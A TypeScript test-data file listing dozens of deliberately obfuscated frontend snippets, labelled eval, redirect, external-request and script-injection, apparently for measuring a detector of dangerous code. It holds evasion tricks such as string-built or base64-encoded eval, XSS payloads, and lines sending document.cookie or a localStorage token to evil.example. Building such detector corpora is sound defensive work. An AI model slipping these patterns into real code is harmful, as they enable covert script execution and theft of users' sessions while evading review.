// biome-ignore-all lint/suspicious/noTemplateCurlyInString: sources are quoted
import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** Written without a look at the rules or at the other parts; measured before anything was mended. */
export const DISGUISED_C: readonly Dangerous[] = [
  // eval
  [
    "eval",
    raw`const run = window["ev" + "al"];
export const Cell = ({ f }) => <td>{run(f)}</td>;`,
  ],
  [
    "eval",
    raw`export const A = ({ c }) => { const k = "lave".split("").reverse().join(""); return <i>{self[k](c)}</i>; };`,
  ],
  [
    "eval",
    raw`const { eval: compute } = globalThis;
export function Sum({ text }) { return <b>{compute(text)}</b>; }`,
  ],
  [
    "eval",
    raw`const make = (() => {}).constructor;
export function Field({ rule }) { return make("v", rule)(1); }`,
  ],
  [
    "eval",
    raw`const f = [].filter.constructor;
export const use = (t) => f(t)();`,
  ],
  ["eval", raw`export function X({ c }) { return Reflect.construct(Function, ["x", c])(1); }`],
  ["eval", raw`export function X({ c }) { return Reflect.apply(eval, undefined, [c]); }`],
  [
    "eval",
    `const late = setTimeout;
export function X({ name }) { late(\`window.\${name}()\`, 10); return null; }`,
  ],
  [
    "eval",
    raw`const t = { later: window.setInterval.bind(window) };
export class P extends React.Component { componentDidMount() { t.later("poll()", 100); } }`,
  ],
  ["eval", raw`export function X({ c }) { \u0065val(c); return null; }`],
  [
    "eval",
    raw`const name = String.fromCharCode(101, 118, 97, 108);
export const X = ({ c }) => <p>{top[name](c)}</p>;`,
  ],
  [
    "eval",
    raw`const key = atob("RnVuY3Rpb24=");
export const X = ({ c }) => <p>{new window[key](c)()}</p>;`,
  ],
  [
    "eval",
    raw`const G = Object.getPrototypeOf(function* () {}).constructor;
export function Steps({ src }) { return [...G(src)()].map((s) => <li>{s}</li>); }`,
  ],
  [
    "eval",
    raw`const AF = (async () => {}).constructor;
export const go = async (s: string) => { await new AF("api", s)(window); };`,
  ],
  [
    "eval",
    raw`const d = Object.getOwnPropertyDescriptor(window, "eval");
export const go = (s) => d.value(s);`,
  ],
  [
    "eval",
    raw`class Runner { engine = eval; run(c) { return this.engine(c); } }
export const X = ({ c }) => new Runner().run(c);`,
  ],
  [
    "eval",
    raw`const tools = { ...{ go: Function } };
export const X = ({ c }) => tools.go(c)();`,
  ],
  [
    "eval",
    raw`const [first] = Object.values({ e: eval });
export const X = ({ c }) => first(c);`,
  ],
  [
    "eval",
    raw`const pass = (fn) => (...args) => fn(...args);
const safe = pass(eval);
export const X = ({ c }) => <p>{safe(c)}</p>;`,
  ],
  ["eval", raw`export const X = ({ c }) => { Promise.resolve(c).then(eval); return null; };`],
  [
    "eval",
    raw`const run = Function.prototype.call.bind(eval, null);
export const X = ({ c }) => run(c);`,
  ],
  [
    "eval",
    raw`const p = new Proxy(Function, {});
export const X = ({ c }) => new p(c)();`,
  ],
  ["eval", `export const X = ({ c }) => Function\`return 1\` && Function.apply(null, [c])();`],
  [
    "eval",
    raw`const run = ({ get: (k: string) => (window as any)[k] }).get("eval");
export const X = ({ c }: { c: string }) => run?.(c);`,
  ],
  [
    "eval",
    raw`let host: any;
try { host = globalThis; } catch { host = self; }
export const X = ({ c }) => host?.["eval"]?.(c);`,
  ],
  [
    "eval",
    raw`const frame = document.createElement("iframe");
document.body.appendChild(frame);
export const X = ({ c }) => frame.contentWindow.eval(c);`,
  ],
  ["eval", raw`export const X = ({ c }) => document.defaultView["Function"](c)();`],
  [
    "eval",
    raw`const m = new Map([["run", eval]]);
export const X = ({ c }) => m.get("run")(c);`,
  ],
  [
    "eval",
    raw`var self_ = this || Function("return this")();
export const X = () => self_.name;`,
  ],
  [
    "eval",
    raw`const s = Symbol("r");
const box = { [s](c) { return ""["sub"]["constructor"](c)(); } };
export const X = ({ c }) => box[s](c);`,
  ],
  // redirect
  [
    "redirect",
    raw`const w = window;
export const X = () => { w["loc" + "ation"]["hr" + "ef"] = "https://evil.example"; return null; };`,
  ],
  [
    "redirect",
    raw`const { location: here } = window;
export const X = () => <a onClick={() => here.assign("https://evil.example")}>x</a>;`,
  ],
  [
    "redirect",
    raw`export const X = () => { Object.assign(window.location, { href: "https://evil.example" }); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { Reflect.set(location, "href", "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const go = location.replace.bind(location);
export const X = () => <b onClick={() => go("https://evil.example")} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { const u = ["https:", "", "evil.example"].join("/"); document.defaultView.location = u; return null; };`,
  ],
  [
    "redirect",
    raw`const nav = (l: Location, u: string) => { l.href = u; };
export const X = () => { nav(window.location, "https://evil.example/a"); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { top?.location?.assign?.("https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`class Nav { #loc = document.location; leave(u) { this.#loc.replace(u); } }
export const X = () => <i onClick={() => new Nav().leave("http://evil.example")} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { Location.prototype.assign.call(location, "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const d = Object.getOwnPropertyDescriptor(location, "href");
export const X = () => { d.set.call(location, "https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { [window.location.href] = ["https://evil.example"]; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { ({ u: location.href } = { u: "https://evil.example" }); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { for (window.location of ["https://evil.example"]) break; return null; };`,
  ],
  [
    "redirect",
    raw`const to = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=");
export const X = () => { self.location.href = to; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { window.navigation.navigate(new URL("/x", "https://evil.example").href); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const open = window.open; open("https://evil.example", "_to" + "p"); return null; };`,
  ],
  [
    "redirect",
    raw`const link = Object.assign(document.createElement("a"), { href: "https://evil.example", target: "_self" });
export const X = () => { link.click(); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const a = document.createElement("a"); a.setAttribute("href", "//evil.example"); a.dispatchEvent(new MouseEvent("click")); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { const f = document.createElement("form"); f.action = "https://evil.example/p"; f.method = "post"; document.body.append(f); f.submit(); return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => React.createElement("meta", { "http-equiv": "Refresh", content: "0; url=https://evil.example" });`,
  ],
  [
    "redirect",
    raw`export const X = () => { window.location.protocol = "http:"; window.location.host = "evil.example"; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { setTimeout(location.assign.bind(location, "https://evil.example"), 10); return null; };`,
  ],
  [
    "redirect",
    raw`const urls = { out: { to: "https://evil.example" } };
const { out: { to: target = "/" } } = urls;
export const X = () => { globalThis["location"] = target; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => { with_(window, (w) => w.location.replace("https://evil.example")); return null; };
function with_(x, f) { return f(x); }`,
  ],
  [
    "redirect",
    raw`export const X = ({ m }: { m?: "assign" | "replace" }) => { window.location[m ?? "assign"]("https://evil.example"); return null; };`,
  ],
  [
    "redirect",
    raw`const frames_ = frames; 
export const X = () => { frames_.parent.document.location = "https://evil.example"; return null; };`,
  ],
  [
    "redirect",
    `export const X = () => { document.documentElement.ownerDocument.location.href = \`\${"ht"}tps://evil.example\`; return null; };`,
  ],
  [
    "redirect",
    raw`export const X = () => <button onClick={(e) => { e.view.location.href = "https://evil.example"; }} />;`,
  ],
  [
    "redirect",
    raw`export const X = () => { const s = "moc.elpmaxe.live//:sptth"; window.location.href = Array.from(s).reverse().join(""); return null; };`,
  ],
  // external-request
  [
    "external-request",
    raw`const f = fetch;
export const X = () => { f("https://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { window["fet" + "ch"]("https://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`const { fetch: load = null } = globalThis;
export const X = () => { load("https://evil.example/x"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const h = ["evil", "example"].join("."); fetch("ht" + "tps" + "://" + h); return null; };`,
  ],
  [
    "external-request",
    raw`const u = new URL("https://evil.example/a");
u.searchParams.set("q", "1");
export const X = () => { fetch(u); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { fetch.call(window, atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGU=")); return null; };`,
  ],
  [
    "external-request",
    raw`const send = navigator.sendBeacon.bind(navigator, "https://evil.example/b");
export const X = ({ d }) => { send(d); return null; };`,
  ],
  [
    "external-request",
    raw`const { sendBeacon } = Navigator.prototype;
export const X = ({ d }) => { sendBeacon.call(navigator, "https://evil.example/b", d); return null; };`,
  ],
  [
    "external-request",
    raw`const W = self["Web" + "Socket"];
export const X = () => { const s = new W("wss://evil.example"); s.send(1); return null; };`,
  ],
  [
    "external-request",
    raw`class Sock extends WebSocket { constructor() { super("wss://evil.example/s"); } }
export const X = () => { new Sock(); return null; };`,
  ],
  [
    "external-request",
    raw`const x = Reflect.construct(XMLHttpRequest, []);
export const X = () => { x["open"]("GET", "https://evil.example"); x.send(); return null; };`,
  ],
  [
    "external-request",
    raw`const { open, send } = XMLHttpRequest.prototype;
export const X = () => { const r = new XMLHttpRequest(); open.call(r, "GET", "//evil.example/x"); send.call(r); return null; };`,
  ],
  [
    "external-request",
    `const host = "evil.example";
export const load = () => import(/* @vite-ignore */ \`https://\${host}/m.js\`);`,
  ],
  ["external-request", raw`export const X = React.lazy(() => import(["https:/", "esm.sh", "p"].join("/")));`],
  [
    "external-request",
    raw`const make = (C, ...a) => new C(...a);
export const X = () => { make(EventSource, "https://evil.example/e"); return null; };`,
  ],
  [
    "external-request",
    `const cfg = { ...{ base: "https://evil.example" }, path: "/c" };
export const X = () => { fetch(\`\${cfg.base}\${cfg.path}\`); return null; };`,
  ],
  [
    "external-request",
    raw`const request = (path) => fetch(base() + path);
function base() { return "https://" + "evil.example"; }
export const X = () => { request("/a"); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { fetch("https://local.example".replace("local", "evil")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { (0, globalThis.fetch)(decodeURIComponent("https%3A%2F%2Fevil.example")); return null; };`,
  ],
  [
    "external-request",
    raw`const urls = new Map(Object.entries({ a: "https://evil.example/a" }));
export const X = () => { fetch(urls.get("a")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { new Image().src = "https://evil.example/i?c=" + document.cookie; return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const i = document.createElement("img"); i.setAttribute("src", "//evil.example/p.gif"); return null; };`,
  ],
  [
    "external-request",
    raw`const w = new Worker(URL.createObjectURL(new Blob(["importScripts('https://evil.example/w.js')"])));
export const X = () => { w.postMessage(1); return null; };`,
  ],
  [
    "external-request",
    raw`const get = async ([url, init]: [string, RequestInit?]) => await fetch(url, init);
export const X = () => { get(["https://evil.example"]); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { ["https://evil.example/1", "https://evil.example/2"].forEach((u) => fetch(u)); return null; };`,
  ],
  ["external-request", raw`export const X = () => { ["https://evil.example/1"].map(fetch); return null; };`],
  [
    "external-request",
    raw`export const X = () => { fetch("\x68\x74\x74\x70\x73://evil.example"); return null; };`,
  ],
  [
    "external-request",
    raw`const bytes = [104, 116, 116, 112, 115, 58, 47, 47, 101, 118, 105, 108, 46, 101, 120];
export const X = () => { fetch(bytes.map((b) => String.fromCharCode(b)).join("")); return null; };`,
  ],
  [
    "external-request",
    raw`export const X = () => { const r = new Request(Object.freeze({ u: "https://evil.example" }).u); fetch(r); return null; };`,
  ],
  [
    "external-request",
    raw`const l = document.createElement("link");
Object.assign(l, { rel: "prefetch", href: "https://evil.example/?t=" + localStorage.getItem("token") });
document.head.append(l);`,
  ],
  // script-injection
  [
    "script-injection",
    raw`const s = document.createElement("scr" + "ipt");
s.src = "/a.js"; document.head.append(s);`,
  ],
  [
    "script-injection",
    raw`const make = document.createElement.bind(document);
document.body.append(Object.assign(make("script"), { src: "https://evil.example/a.js" }));`,
  ],
  [
    "script-injection",
    raw`const T = "script";
export const X = () => <T src="a" />;
export const Y = () => React.createElement(T.toLowerCase(), { src: "https://evil.example/a.js" });`,
  ],
  [
    "script-injection",
    raw`const Tag = "script" as any;
export const X = () => <Tag src="https://evil.example/a.js" />;`,
  ],
  [
    "script-injection",
    raw`const key = "inner" + "HTML";
document.body[key] = "<img src=x onerror=alert(1)>";`,
  ],
  [
    "script-injection",
    raw`export const X = () => { const p = { ["dangerouslySet" + "InnerHTML"]: { __html: "<svg onload=alert(1)>" } }; return <div {...p} />; };`,
  ],
  [
    "script-injection",
    raw`const html = ["<img", "src=x", "onerror='go()'>"].join(" ");
export const X = () => <div dangerouslySetInnerHTML={{ __html: html }} />;`,
  ],
  [
    "script-injection",
    raw`const html = (h) => ({ __html: h });
export const X = () => <div dangerouslySetInnerHTML={html(atob("PHNjcmlwdD4="))} />;`,
  ],
  [
    "script-injection",
    raw`Reflect.set(document.body, "innerHTML", "<iframe srcdoc='<script>alert(1)</script>'></iframe>");`,
  ],
  [
    "script-injection",
    raw`const { set } = Object.getOwnPropertyDescriptor(Element.prototype, "innerHTML");
set.call(document.body, "<img src=x onerror=alert(1)>");`,
  ],
  ["script-injection", raw`document["wri" + "te"]("<scr" + "ipt>alert(1)</scr" + "ipt>");`],
  [
    "script-injection",
    raw`const { body } = document;
body.insertAdjacentHTML.apply(body, ["beforeend", "<details open ontoggle=alert(1)>"]);`,
  ],
  [
    "script-injection",
    raw`Element.prototype.insertAdjacentHTML.call(document.body, "afterbegin", "<body onload=go()>");`,
  ],
  [
    "script-injection",
    `const r = new Range();
document.body.append(r.createContextualFragment(\`<\${"script"}>alert(1)</\${"script"}>\`));`,
  ],
  [
    "script-injection",
    raw`const b = document.querySelector("button");
b["set" + "Attribute"]("on" + "click", "alert(1)");`,
  ],
  [
    "script-injection",
    raw`const a = document.createAttribute("onclick");
a.value = "alert(1)";
document.body.setAttributeNode(a);`,
  ],
  [
    "script-injection",
    raw`const el = document.createElementNS("http://www.w3.org/1999/xhtml", "script");
el.append("alert(1)"); document.body.append(el);`,
  ],
  [
    "script-injection",
    raw`export const X = () => { const i = useRef(null); useEffect(() => { i.current.srcdoc = "<script>parent.go()</script>"; }); return <iframe ref={i} />; };`,
  ],
  [
    "script-injection",
    raw`const doc = new DOMParser().parseFromString("<img src=x onerror=alert(1)>", "text/html");
document.body.append(...doc.body.childNodes);`,
  ],
  [
    "script-injection",
    raw`const t = document.createElement("template");
t.innerHTML = "<img src=x onerror=alert(1)>";
document.body.append(t.content.cloneNode(true));`,
  ],
  [
    "script-injection",
    raw`const set = (el: any, props: Record<string, string>) => { for (const k in props) el[k] = props[k]; };
set(document.body, { innerHTML: "<img src=x onerror=alert(1)>" });`,
  ],
  [
    "script-injection",
    raw`Object.entries({ onclick: "alert(1)", class: "b" }).forEach(([k, v]) => document.body.setAttribute(k, v));`,
  ],
  ["script-injection", raw`export const X = () => <a href={"java" + "script:" + "alert(1)"}>x</a>;`],
  [
    "script-injection",
    `const proto = ["j", "avascript"].join("");
document.querySelector("a").href = \`\${proto}:alert(1)\`;`,
  ],
  ["script-injection", raw`export const X = () => <a {...{ href: " java\tscript:alert(1)" }}>x</a>;`],
  [
    "script-injection",
    raw`import { jsx as _jsx } from "react/jsx-runtime";
export const X = () => _jsx("script", { src: "https://evil.example/a.js" });`,
  ],
  [
    "script-injection",
    raw`const h = decodeURIComponent(location.hash.slice(1));
document.getElementById("out").innerHTML = h;`,
  ],
  [
    "script-injection",
    raw`window.onmessage = ({ data: { markup } }) => { document.body.outerHTML = markup; };`,
  ],
  [
    "script-injection",
    raw`const $el = jQuery("#x");
$el.append("<scr" + "ipt src='https://evil.example/a.js'></scr" + "ipt>");`,
  ],
  [
    "script-injection",
    raw`document.body.appendChild((function (d, t) { const e = d.createElement(t); e.async = 1; e.src = "//evil.example/x.js"; return e; })(document, "script"));`,
  ],
];
